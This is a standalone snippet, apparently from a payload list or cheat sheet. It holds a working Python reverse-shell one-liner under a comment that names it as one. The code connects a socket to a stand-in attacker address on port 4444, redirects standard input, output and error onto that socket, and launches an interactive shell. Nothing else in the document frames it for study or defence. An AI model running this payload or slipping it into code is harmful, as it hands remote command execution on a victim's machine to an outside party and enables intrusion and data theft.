# reverse-shell: python -c inside bash dup2s a socket onto a shell
python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.23",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])'
